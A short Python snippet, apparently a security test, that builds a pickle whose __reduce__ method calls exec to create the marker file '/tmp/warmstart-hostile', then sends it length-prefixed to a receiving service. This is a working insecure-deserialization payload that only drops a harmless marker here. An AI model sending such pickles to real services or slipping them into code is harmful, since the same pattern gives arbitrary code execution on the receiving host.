import pickle, struct


class Bomb:
    def __reduce__(self):
        return (exec, ("open('/tmp/warmstart-hostile', 'w')",))


data = pickle.dumps({"loaded": True, "bomb": Bomb()})
send(struct.pack("!I", len(data)) + data)
